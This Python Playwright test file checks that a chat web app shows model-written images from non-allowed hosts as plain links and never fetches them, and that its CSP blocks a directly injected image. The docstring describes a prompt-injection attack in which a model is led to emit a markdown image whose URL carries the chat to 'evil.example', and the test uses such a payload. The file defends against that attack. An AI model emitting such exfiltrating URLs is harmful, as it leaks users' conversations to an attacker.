"""In the browser: a model-written image from another host is never fetched, only linked.

A prompt injection can ask the model to write `![](https://evil.example/?q=<the chat>)`;
loaded at once, the image would carry the chat away. The page must fetch no such URL
(checked at the network: every request the browser makes is seen by a route), show a
link instead, and load images from the hosts the deployment allows.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, Route, expect

from tests.web.conftest import CHAT, Web, playwright, serving, sign_in
from toolrelay.testing.fake_server import SSEReply
from toolrelay.testing.wire import chat_chunks

__all__ = ["playwright"]  # the fixture, used by `web` below

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


@pytest.fixture(scope="module")
def web(playwright: object, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Web]:
    extra = '\n[web]\nimage_hosts = ["https://images.example.com"]\n'
    with serving(playwright, tmp_path_factory.mktemp("images"), extra=extra) as running:  # type: ignore[arg-type]
        yield running


def test_an_image_from_another_host_is_a_link_and_never_fetched(web: Web) -> None:
    context = web.context()
    fetched: list[str] = []

    def outside(route: Route) -> None:
        fetched.append(route.request.url)
        route.fulfill(status=200, body=PNG, content_type="image/png")

    context.route("https://**/*", outside)
    page: Page = context.new_page()
    sign_in(page)
    answer = (
        "Here.\n\n![the secret](https://evil.example/pixel.png?chat=secret)\n\n"
        "![allowed](https://images.example.com/cat.png)\n"
    )
    web.upstream.route(CHAT, SSEReply(chat_chunks(text=[answer])))
    page.fill("#input", "show me")
    page.press("#input", "Enter")
    link = page.locator("article.assistant .answer a.image-link")
    expect(link).to_have_count(1)
    expect(link).to_contain_text("evil.example")
    assert link.get_attribute("href") == "https://evil.example/pixel.png?chat=secret"
    assert link.get_attribute("target") == "_blank"
    allowed = page.locator("article.assistant .answer img")
    expect(allowed).to_have_count(1)
    assert allowed.get_attribute("src") == "https://images.example.com/cat.png"
    expect(allowed).to_have_js_property("complete", True)
    assert fetched == ["https://images.example.com/cat.png"]
    assert page.evaluate("window.__cspViolations") == []  # refused by the page, not the CSP
    page.reload()  # the saved answer renders the same way
    expect(page.locator("article.assistant .answer a.image-link")).to_have_count(1)
    assert not any("evil.example" in url for url in fetched)
    context.close()


def test_the_csp_stops_an_image_the_page_missed(web: Web) -> None:
    """The second lock: an <img> put in the page some other way still cannot load."""
    context = web.context()
    fetched: list[str] = []

    def outside(route: Route) -> None:
        fetched.append(route.request.url)
        route.abort()

    context.route("https://**/*", outside)
    page = context.new_page()
    sign_in(page)
    page.evaluate(
        "() => { const i = document.createElement('img');"
        " i.src = 'https://evil.example/direct.png'; document.body.append(i); }"
    )
    page.wait_for_function("window.__cspViolations.length > 0")
    assert page.evaluate("window.__cspViolations") == ["img-src"]
    assert fetched == []
    context.close()
